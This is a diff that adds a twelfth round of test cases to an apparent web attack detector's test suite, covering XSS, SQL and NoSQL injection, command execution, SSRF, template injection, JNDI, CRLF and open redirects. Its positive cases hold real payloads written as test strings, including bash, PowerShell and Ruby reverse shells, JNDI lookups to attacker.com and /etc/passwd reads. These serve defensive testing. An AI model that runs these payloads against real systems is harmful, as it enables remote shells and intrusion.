@@ -811,3 +811,112 @@ t.test("nosqli (eleventh round): the database's own administrative methods, a fu
   // a script reading a collection, prose about a method, a function in code not called on `this`
   for (const p of ["db.getCollection('users').count()", 'use db.dropDatabase with care', "const f = 'a' + function (x) { return x }"]) t.notOk(q(p).includes('nosqli'), p)
 })
+
+// ---- twelfth round (issue 22): a program's source judged as code; the URL, template and command shapes it added ----
+
+t.test('false positives (twelfth round): a JSX handler that names or defines a function runs nothing', async (t) => {
+  const form = '  render() {\n    return (\n      <form\n        onSubmit={this.handleSubmit}\n        className="todo"\n      >\n        <button type="submit">Add</button>\n      </form>\n    );\n  }'
+  const list = '      <ul>\n        {todos.map((todo, i) => (\n          <li\n            key={i}\n            onClick={() => {\n              this.handleActive(i);\n            }}\n          >\n            {todo.text}\n          </li>\n        ))}\n      </ul>'
+  for (const p of [form, list]) t.notOk(q(p).includes('xss'), p.slice(0, 40))
+  // a handler that calls something, or markup around it, still counts
+  for (const p of ['<img src=x onerror={alert(1)}>', '<form onsubmit={(() => alert(1))()}>', '<a onclick="alert(1)">x</a>']) t.ok(q(p).includes('xss'), p)
+})
+
+t.test("false positives (twelfth round): a program's multi-line literals, its function bodies' sinks and its usage placeholders are its own", async (t) => {
+  const csharp = 'class Server\n{\n\tpublic static string url = "";\n\tpublic const string page = @"\n\t\t<html><script>function up(el) { fetch(el.value) }</script>\n\t\t<input type=""file"" onchange=""up(this)"">\n\t\t</html>";\n\tpublic static void Main() {}\n}'
+  const python = 'import os\nfrom fastapi import FastAPI\nhtml = """\n<form action="" onsubmit="sendMessage(event)">\n<script>var ws = new WebSocket("ws://localhost:8000/ws");</script>\n"""\ndef main():\n    return html'
+  const body = 'function createCell(contents) {\n  const cell = document.createElement("td");\n  return cell;\n}\nfunction displayError(err) {\n  alert("Error:" + err);\n}\nconst x = 1'
+  const usage = "#!/usr/bin/env node\nconst { Command } = require('commander');\nconst fs = require('fs');\nconst program = new Command();\nprogram\n  .command('exec')\n  .argument('<script>')\n  .action((script) => {});"
+  for (const p of [csharp, python, body, usage]) t.notOk(q(p).includes('xss'), p.slice(0, 40))
+  // markup outside a literal of a program, and a sink alone, still count
+  t.ok(q('const a = 1\nconst b = 2\nconst c = 3\n<img src=x onerror=alert(1)>').includes('xss'), 'markup outside the literals')
+  t.ok(q('alert(1)').includes('xss'), 'a sink alone')
+  t.ok(q('"><script>alert(1)</script>').includes('xss'), 'a script element')
+})
+
+t.test("false positives (twelfth round): a program's climbs, process imports and regular expression literals are its own", async (t) => {
+  const join = "const path = require('path');\nconst filename = path.join(__dirname, '../../logs/project.log');\nconst log = require('logger')(filename);\nmodule.exports = { log };"
+  t.notOk(q(join).includes('path_traversal'), 'a climb to its own log')
+  t.ok(q("const a = 1\nconst b = 2\nconst c = 3\nread('/etc/passwd')").includes('path_traversal'), 'a system file named in code')
+  t.ok(q('../../logs/x.log').includes('path_traversal'), 'the same climb alone')
+  const imports = "const childProcess = require('child_process');\nconst fs = require('fs');\nconst path = require('path');\nconst { test } = require('node:test');"
+  const popen = 'def test_imports():\n    c = subprocess.Popen([sys.executable, "-"], stdout=subprocess.PIPE)\n    for module in imported:\n        assert module in ALLOWED\n    return c'
+  for (const p of [imports, popen]) t.notOk(q(p).includes('rce'), p.slice(0, 40))
+  for (const p of ["require('child_process').exec('id')", "__import__('os').system('id')"]) t.ok(q(p).includes('rce'), p)
+  const regex = '// warn about them\nvar rerrorNames = /^(Eval|Internal|Range|Type|URI)Error$/;\njQuery.hook = function (error) {\n  if (rerrorNames.test(error.name)) warn(error)\n};'
+  t.notOk(q(regex).includes('rce'), 'a regular expression literal')
+  t.ok(q('a=/x/;\n| id').includes('rce'), 'an injection beside a slash-quoted word')
+})
+
+t.test('false positives (twelfth round): shell scripts by their interpreter line, [[ ]] tests and a function body; nested quotes of a definition', async (t) => {
+  const shebang = '#! /usr/bin/env A=003 B=149 I=tail sh -x\n$I -n+$A $0 | $H -n+$B |$E -D |$F -x; $I -n+$C $0 | ./$D && exit\nH4sICHMSq1ECA3h6ZC50YXIA7Fp9cFRVln'
+  const tests = '# process the args\nprocess_args "$@"\nset -- "${residual[@]}"\n# set options\n[[ ${#scalac_args[@]} -eq 0 ]] || addSbt "set x"\n[[ -n "$v" ]] && echo "Detected $(sbt_version)"'
+  const fnBody = '\tsudo apt-add-repository $1 && sudo $APT update\n\tsudo $APT install $PACKAGE\n}'
+  const aliases = "# aliases\nalias hga='hg add'\nalias hgsl='hg log --template \"{node|short} | {date|isodatesec}\\n\" '\nalias hgs='hg status'"
+  const jump = '# jump to a mark\nexport MARKPATH=$HOME/.marks\njump() {\n\tlocal markpath="$(readlink $MARKPATH/$1)" || {echo "No such mark: $1"; return 1}\n}'
+  for (const p of [shebang, tests, fnBody, aliases]) t.notOk(q(p).includes('rce'), p.slice(0, 40))
+  t.notOk(q(jump).includes('nosqli'), "a shell program's `; return 1`")
+  // a reverse shell in a script, an injection on an unindented first line, an injection without a definition
+  for (const p of ['#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nexit', 'x; cat /etc/passwd\n\tfoo\n\tbar\n}', 'x=\"a\" | id']) t.ok(q(p).includes('rce'), p)
+  t.ok(q("' || 'a'=='a").includes('nosqli'), 'the tautology')
+  t.notOk(q('if rail == 0 || rail == rails-1 {\n\tx()\n}').includes('nosqli'), 'an operand that goes on (rails)')
+})
+
+t.test("false positives (twelfth round): T-SQL's routines and dynamic EXEC, a catalog's name quoted whole", async (t) => {
+  const routine = "IF EXISTS (SELECT * FROM DBO.SYSOBJECTS WHERE ID = OBJECT_ID(N'dbo.Sel'))\n    DROP PROCEDURE dbo.Sel\nGO\nCREATE Procedure Sel\nAS\n    SELECT '-1', 'Select...'\n    UNION ALL\n    SELECT '1', 'Yes'\nGO"
+  t.notOk(q(routine).includes('sqli'), 'a UNION inside the routine it creates')
+  t.ok(q("CREATE TABLE t (a int);\nINSERT INTO t VALUES (1);\nSELECT a FROM t UNION SELECT password FROM users;").includes('sqli'), 'a UNION in a program defining no routine')
+  t.notOk(q("if not exists(select * from sysobjects where name = 'f')\n  exec('create FUNCTION dbo.f() returns int as begin return null end')\nGO").includes('rce'), "EXEC('create …') is SQL")
+  t.ok(q("exec('cat /etc/passwd')").includes('rce'), 'a command handed to exec')
+  t.notOk(q('if let Ok(user) = std::env::var("PG_USER") {\n    cfg.user = Some(user);\n}').includes('sqli'), 'an environment variable named PG_USER')
+  t.ok(q("' union select usename from pg_user--").includes('sqli'), 'the catalog read')
+})
+
+t.test('ssrf (twelfth round): one-label hosts, any scheme to a private host and file: URLs under a URL parameter', async (t) => {
+  for (const p of ['http://redis', 'https://internal-api', 'http://kubernetes', 'http://rancher-metadata/latest/self', 'redis://localhost:6379/info', 'mongodb://localhost:27017/admin', 'smtp://localhost:25/', 'file:///var/www/html/.env', 'file:////localhost/c$/windows/win.ini', 'unix:///var/run/docker.sock']) t.ok(q(p, 'url').includes('ssrf'), p)
+  // a lone value, a public host, the request's own, a document's services
+  for (const p of ['http://redis', 'redis://localhost:6379/info']) t.notOk(q(p).includes('ssrf'), `${p} in a search box`)
+  for (const p of ['https://example.com/a', 'http://shop.example.com/', 'home']) t.notOk(q(p, 'url').includes('ssrf'), p)
+  t.notOk(detector.detect({ ...base, headers: { host: 'api' }, query: 'url=http%3A%2F%2Fapi%2Fx' }).includes('ssrf'), 'the request\'s own one-label host')
+})
+
+t.test('ssti (twelfth round): arithmetic chains and filters, object walks in any delimiters, the engine\'s own objects', async (t) => {
+  for (const p of ['{{7*7*7}}', '{{7*7|safe}}', '${[].__class__}', "#{''.class.mro[1].subclasses}", '${config}', '${request}', '{{request.cookies}}', '{{handler.application}}', '{{app.session}}']) t.ok(q(p).includes('ssti'), p)
+  // a message's placeholders
+  for (const p of ['{{username}}', '${user}', 'Hello {{name}}', '${order.id}', '{{undefined_variable}}']) t.notOk(q(p).includes('ssti'), p)
+  const literal = "  test('wraps', () => {\n    const CSI = '\\u001b[';\n    const text = `${CSI}4mXYZ${CSI}24m${' ABC'.repeat(19)}`;\n    return text;\n  });\nconst a = 1"
+  t.notOk(q(literal).includes('ssti'), "a program's template literal")
+})
+
+t.test('rce (twelfth round): an echo of a marker, a ping given a host name, the root given options, typographic dashes', async (t) => {
+  for (const p of ['; echo DOMINATOR_CMD_EXEC', '| echo DOMINATOR_CMD_EXEC', '$(echo DOMINATOR_CMD_EXEC)', '127.0.0.1 && ping google.com', '127.0.0.1 | ping google.com', '; find / -perm -4000 2>/dev/null', '| ping \u2013n 30 127.0.0.1 |']) t.ok(q(p).includes('rce'), p)
+  for (const p of ['Tom & echo chamber', 'echo DOMINATOR_CMD_EXEC', 'ping google.com', 'Tom & ping google.com', 'find / and replace', 'pages 10 \u2013 12']) t.notOk(q(p).includes('rce'), p)
+})
+
+t.test('jndi, crlf, ssti and nosqli (twelfth round): letters spelt one lookup at a time, status lines and markup after a blank line, a function called, a tautology with one `=`', async (t) => {
+  for (const p of ['${${lookup:l}${lookup:d}${lookup:a}${lookup:p}://attacker.com:1389/a}', '${${date:l}da${date:p}://attacker.com/z}', '${${date:Y}${date:m}${date:d}:ldap://attacker.com/z}', '${j${:(K)n}di:ldap://attacker.com:1389/a}', '${${lower:l}${lower:d}ap://OAST/a}']) t.ok(q(p).includes('jndi'), p)
+  for (const p of ['${date:Y}-${date:m}', '${a:b}', 'ldap://directory.example.com/', '${lower:x}${upper:y}']) t.notOk(q(p).includes('jndi'), p)
+  for (const p of ['%0d%0aHTTP/1.1 200 OK', '\\r\\nExpires: Thu, 01 Jan 1970 00:00:00 GMT', '%0d%0a%0d%0a<details open ontoggle=alert(1)>', '%0d%0a%0d%0a<iframe src=javascript:alert(1)>']) t.ok(q(p, 'lang').includes('crlf'), p)
+  for (const p of ['Hello\nServer Components are new', 'a\n\n<b>bold</b>', 'line one\nExpires soon']) t.notOk(q(p, 'lang').includes('crlf'), p)
+  for (const p of ['{{include("index")}}', '{{dump(app)}}']) t.ok(q(p).includes('ssti'), p)
+  for (const p of ['{{name}}', 'call {{ fn }} later']) t.notOk(q(p).includes('ssti'), p)
+  for (const p of ['admin" || "1"="1', 'admin") || ("1"="1"--', "admin')) || (('1'='1"]) t.ok(q(p).includes('nosqli'), p)
+  for (const p of ['a || b = c', 'x || (y = y2)']) t.notOk(q(p).includes('nosqli'), p)
+})
+
+t.test('rce (twelfth round): reverse shells by an interpreter\'s socket', async (t) => {
+  for (const p of ["$client = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$stream = $client.GetStream()", 'ruby -rsocket -e \'c=TCPSocket.new("203.0.113.7","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\'']) t.ok(q(p).includes('rce'), p)
+  for (const p of ['new TcpClient(host, port)', 'a|b']) t.notOk(q(p).includes('rce'), p)
+})
+
+t.test('open redirects (twelfth round): a second URL after a separator, unreserved characters percent-encoded, a path opening on a blank', async (t) => {
+  const target = (raw: string, name = 'next') => detector.detect({ ...base, query: `${name}=${raw}` })
+  for (const p of ['https://google.com/;https://evil.com', 'https://google.com\r\nhttps://evil.com', 'https://shop.example.com https://evil.com']) t.ok(q(p, 'next').includes('open_redirect'), JSON.stringify(p))
+  for (const raw of ['h%74%74ps://evil.com', 'https://e%76il.com', 'https://evil%2Ecom', '%68%74%74%70%73%3a%2f%2fevil.com']) t.ok(target(raw).includes('open_redirect'), raw)
+  t.ok(json({ redirect_uri: '%68%74%74%70%73%3a//evil.com' }).includes('open_redirect'), 'in a JSON field named for a redirect')
+  for (const p of ['/%09https://evil.com', '/%09evil.com']) t.ok(path(p).includes('open_redirect'), p)
+  // a plain URL (decided), an encoded slash or colon only (a client's encoding), the site's own host encoded, a URL under no redirect parameter
+  for (const raw of ['https%3A%2F%2Fevil.com', 'https://evil.com', 'https://sh%6Fp.example.com/a', 'https://a.example/x?b=1,https://c.example']) t.notOk(target(raw).includes('open_redirect'), raw)
+  t.notOk(target('h%74%74ps://evil.com', 'q').includes('open_redirect'), 'under no redirect parameter')
+  t.notOk(path('/docs/%09intro').includes('open_redirect'), 'a blank in a later segment')
+})
